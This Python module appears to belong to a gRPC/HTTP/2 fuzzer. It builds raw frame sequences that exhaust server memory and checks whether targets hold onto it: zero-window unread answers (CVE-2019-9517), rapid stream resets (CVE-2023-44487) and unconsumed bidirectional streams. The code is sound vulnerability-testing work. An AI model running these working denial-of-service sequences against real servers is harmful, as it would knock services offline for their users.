"""What a server keeps for a client that takes none of its answers."""

from __future__ import annotations

import select
import socket
import ssl
import time
from collections.abc import Callable, Iterator, Sequence

from puregrpc.fuzz.cases.answer import Answer
from puregrpc.fuzz.cases.case import Case, Step
from puregrpc.fuzz.cases.headers import without_deadline
from puregrpc.fuzz.checks.words import Observation, Profile
from puregrpc.fuzz.connection.link import Link
from puregrpc.fuzz.connection.running import run_case
from puregrpc.fuzz.connection.target import Target, Usage
from puregrpc.fuzz.frames.probe import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    RST_STREAM,
    block,
    frame,
    indexed,
    message,
    opening,
    window,
)
from puregrpc.fuzz.measures.usage import MEBIBYTE, UsageWatch

__all__ = ["untaken_cases"]

UNTAKEN_MEMORY = 64 * MEBIBYTE
UNTAKEN_FACTOR = 48
"""So many times the octets that were sent, answers to them included, are out of proportion."""
FILLING = 8 << 20
"""Octets of answers by which what lies between the server's writer and a client that reads nothing is full."""
MOST_FILLING = 15_000
"""Calls."""
FILLING_SECONDS = 3.0
LEFT_OPEN = 2
"""Pieces of them, the last ones: what they wait with is not dropped."""
ANSWERS_AT_ONCE = 20
ANSWERED = 0.002
ANSWERED_LATE = 0.01
"""Seconds in which some calls are answered, on a quiet machine and on one that is busy."""
TIMES = 2
RESET_FACTOR = 16
RESET_OCTETS = 8 << 20
RESET_SECONDS = 2.0
RESETS = 1000
OTHERS_SECONDS = 2.0
STILL = 0.2
STILL_TIMES = 3
STILL_SECONDS = 6.0
CANCEL = b"\0\0\0\x08"
MOST_STREAMS = 2
TEXT = 900
"""Characters, which most methods take."""
MAX_PIECE = 16_000
ASKED = 48 << 20
"""Octets beyond what windows and bounded queues hold."""
ASKED_KEPT = 0.6
"""Of what was sent."""
ASKED_SECONDS = 6.0
STALLED = 1.0

Stretch = Callable[[Profile, int], bytes]
LARGEST_WINDOW = (1 << 31) - 1


def untaken_cases(
    target: Target,
    profiles: Sequence[Profile],
    deadline: float,
    watch: UsageWatch,
    until: float,
    stretch: Stretch,
) -> Iterator[tuple[Case, Observation | None]]:
    """Answers into windows of no octet, and calls that are reset behind answers that nobody reads.

    Nothing is begun again after ``until`` (monotonic seconds), unless it has shown something. ``stretch`` makes an
    ordinary message with texts of so many characters.
    """
    if not target.is_collected():
        yield from _questions(target, profiles, stretch)
    yield from _windows(target, profiles, deadline, watch)
    # Where a heap is collected late, nothing can be said of what is kept for a while.
    if not target.is_collected():
        yield _resets_behind_answers(target, profiles, until)


def _questions(
    target: Target, profiles: Sequence[Profile], stretch: Stretch
) -> Iterator[tuple[Case, Observation | None]]:
    """Messages of a stream whose answers are not taken: who does not wait with what is to come keeps all of it."""
    both = [each for each in profiles if each.method.is_client_stream and each.method.is_server_stream]
    for profile in both[:MOST_STREAMS]:
        octets = message(stretch(profile, TEXT))
        piece = octets * max(MAX_PIECE // len(octets), 1)
        about = "messages of a stream whose answers are not taken"
        head = frame(HEADERS, END_HEADERS, 1, block(without_deadline(profile.fields)))
        step = Step("raw", octets=opening(INITIAL_WINDOW_SIZE=0) + head + frame(DATA, 0, 1, piece[:MAX_PIECE]))
        case = Case("frame", profile.path, (step,), "any", about, "CWE-770", "high")
        held: list[Link] = []
        seen: Observation | None = None
        try:
            for _ in range(TIMES):
                before = target.usage()
                link = target.link(settings=((2, 0), (4, 0)), takes_windows=False)
                held.append(link)
                answer = link.open(without_deadline(profile.fields))
                sent = _asked(link, answer, piece) if len(piece) <= MAX_PIECE else 0
                after = _when_still(target) if sent >= ASKED else None
                kept = after.memory - before.memory if before is not None and after is not None else 0
                if answer.ended or kept < sent * ASKED_KEPT:
                    seen = None
                    break
                text = f"{about}: {kept >> 20} MiB are kept of {sent >> 20} MiB"
                seen = Observation("memory", text, ("questions",), "high", case.reference)
        except OSError:
            seen = None
        finally:
            for link in held:
                link.close()
        yield case, seen


def _asked(link: Link, answer: Answer, piece: bytes) -> int:
    """Send as much as the windows let through, until nothing is taken for a while; how much that was."""
    sent = 0
    now = moved = time.monotonic()
    until = now + ASKED_SECONDS
    while sent < ASKED and not link.closed and not answer.ended and now < until and now - moved < STALLED:
        if link.room(answer.stream) >= len(piece):
            link.spend(answer.stream, len(piece))
            if not link.send(frame(DATA, 0, answer.stream, piece), 1.0):
                break
            sent += len(piece)
            moved = now
            link.turn(0)
        else:
            link.turn(0.05)
        now = time.monotonic()
    return sent


def _windows(
    target: Target, profiles: Sequence[Profile], deadline: float, watch: UsageWatch
) -> Iterator[tuple[Case, Observation | None]]:
    """Answers that are never taken: windows of 0 octets (CVE-2019-9517 and its like)."""
    largest = max(profiles, key=lambda each: len(each.answer.body) if each.answer is not None else 0)
    first, following = indexed(largest.fields)
    body = message(largest.octets)[:16000]
    out = bytearray(opening(INITIAL_WINDOW_SIZE=0))
    count = min(2000, max(100, 300_000 // (len(body) + len(following) + 18)))
    for number in range(count):
        stream = 1 + 2 * number
        out += frame(HEADERS, END_HEADERS, stream, following if number else first) + frame(
            DATA, END_STREAM, stream, body
        )
    case = Case(
        "frame",
        largest.path,
        (Step("raw", octets=bytes(out), seconds=1.0),),
        "any",
        f"{count} calls whose answers are not taken",
        "CVE-2019-9517",
        "high",
    )
    grown = watch.measure(lambda: run_case(case, target, deadline=deadline))[0]
    if grown > max(UNTAKEN_MEMORY, UNTAKEN_FACTOR * len(out)):
        again = watch.measure(lambda: run_case(case, target, deadline=deadline))[0]
        if again > grown // 3:
            yield case, Observation("memory", f"{case.about}: {grown >> 20} MiB for {len(out)} octets", ("windows",))
            return
    yield case, None


def _resets_behind_answers(
    target: Target, profiles: Sequence[Profile], until: float
) -> tuple[Case, Observation | None]:
    """Calls that are made and reset while the server's writer waits for a client that reads nothing.

    Whoever counts only what is to be written for a reset keeps something of each call for ever.
    """
    profile = max(profiles, key=lambda each: each.most)
    about = "calls that are reset, behind answers that are not read"
    reference = "GHSA-hrxh-6v49-42gf (grpc-go); CVE-2023-44487"
    first, following = indexed(without_deadline(profile.fields))
    start = opening(INITIAL_WINDOW_SIZE=LARGEST_WINDOW) + window(0, LARGEST_WINDOW - 65535)
    call = frame(HEADERS, END_HEADERS, 1, first) + frame(RST_STREAM, 0, 1, CANCEL)
    case = Case("frame", profile.path, (Step("raw", octets=start + call),), "any", about, reference, "high")
    held: list[socket.socket] = []
    begun = target.usage()
    kept = sent = shown = 0
    try:
        # What was garbage of the first connection, can be taken again for the second. Where the server had not
        # answered before the calls were reset, its writer did not wait: it is given more time then.
        for pause in (ANSWERED, ANSWERED_LATE, ANSWERED_LATE):
            sock = target.options.connect(1.0, takes_little=True)
            held.append(sock)
            sock.setblocking(False)
            number = _fill(sock, start, profile, pause)
            sent += _reset(sock, number, first, following)
            after = _when_still(target)
            if begun is None or after is None or target.has_ended():
                return case, None
            kept = after.memory - begun.memory
            if kept >= max(UNTAKEN_MEMORY, RESET_FACTOR * sent) and _serves(target, profile):
                shown += 1
                if shown == TIMES:
                    break
            elif shown or time.monotonic() > until:
                return case, None
            else:
                begun, sent = after, 0
    except OSError:
        return case, None
    finally:
        for sock in held:
            sock.close()
    if shown < TIMES:
        return case, None
    text = f"{about}: {kept >> 20} MiB are kept of {sent >> 10} KiB, on {shown} connections"
    return case, Observation("memory", text, ("untaken resets",), "high", reference)


def _serves(target: Target, profile: Profile) -> bool:
    """Whether another client's call is answered as ever.

    Where all handlers wait, calls that were reset wait for them too; where calls are refused by now, it is for their
    number, and those that were reset are no ordinary ones.
    """
    try:
        with target.link() as link:
            answer = link.call(profile.fields, message(profile.octets))
            link.pump(time.monotonic() + OTHERS_SECONDS)
            usual = profile.answer.code if profile.answer is not None else answer.code
            return answer.headers is not None and answer.code == usual
    except OSError:
        return False


def _fill(sock: socket.socket, start: bytes, profile: Profile, pause: float) -> int:
    """Have calls answered that nobody reads the answers of, until the server waits; the next stream's number."""
    octets = message(profile.amplifier or profile.octets)
    head = block(without_deadline(profile.fields))
    pieces = [octets[at : at + 16000] for at in range(0, len(octets), 16000)]
    number = 1
    opened: list[range] = []
    until = time.monotonic() + FILLING_SECONDS
    _write(sock, start, 1.0)
    for _ in range(min(MOST_FILLING, FILLING // max(profile.most, 256)) // ANSWERS_AT_ONCE + 1 + LEFT_OPEN):
        opened.append(range(number, number + 2 * ANSWERS_AT_ONCE, 2))
        number = opened[-1][-1] + 2
        out = bytearray()
        for stream in opened[-1]:
            out += frame(HEADERS, END_HEADERS, stream, head)
            for piece in pieces:
                out += frame(DATA, END_STREAM if piece is pieces[-1] else 0, stream, piece)
        if _write(sock, bytes(out), 1.0) < len(out) or time.monotonic() > until:
            break
        time.sleep(pause)
        if len(opened) > LEFT_OPEN:
            # What waits by now is not to count among the streams that are open at once.
            _write(sock, b"".join(frame(RST_STREAM, 0, stream, CANCEL) for stream in opened.pop(0)), 1.0)
    return number


def _reset(sock: socket.socket, number: int, first: bytes, following: bytes) -> int:
    """Make calls and reset them, as many as are taken in time; the octets that were sent."""
    sent = 0
    until = time.monotonic() + RESET_SECONDS
    head = first
    while sent < RESET_OCTETS and time.monotonic() < until:
        out = bytearray()
        for stream in range(number, number + 2 * RESETS, 2):
            out += frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, CANCEL)
            head = following
        number += 2 * RESETS
        taken = _write(sock, bytes(out), until - time.monotonic())
        sent += taken
        if taken < len(out):
            break
    return sent


def _when_still(target: Target) -> Usage | None:
    """What the target takes once it has done with what it was sent: calls may wait for handlers.

    None where it is not done with it in time: then nobody can tell what is kept.
    """
    until = time.monotonic() + STILL_SECONDS
    before = target.usage()
    still = 0
    while time.monotonic() < until:
        time.sleep(STILL)
        after = target.usage()
        if before is None or after is None:
            return None
        # A target that others keep from its work looks still for a moment.
        still = still + 1 if after.cpu - before.cpu < STILL / 10 else 0
        if still == STILL_TIMES:
            return after
        before = after
    return None


def _write(sock: socket.socket, octets: bytes, seconds: float) -> int:
    """Send octets within some time and read nothing; how many were taken."""
    rest = memoryview(octets)
    until = time.monotonic() + seconds
    while rest:
        try:
            rest = rest[sock.send(rest) :]
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            left = until - time.monotonic()
            if left <= 0:
                break
            select.select([], [sock], [], min(left, 0.2))
        except OSError:
            break
    return len(octets) - len(rest)
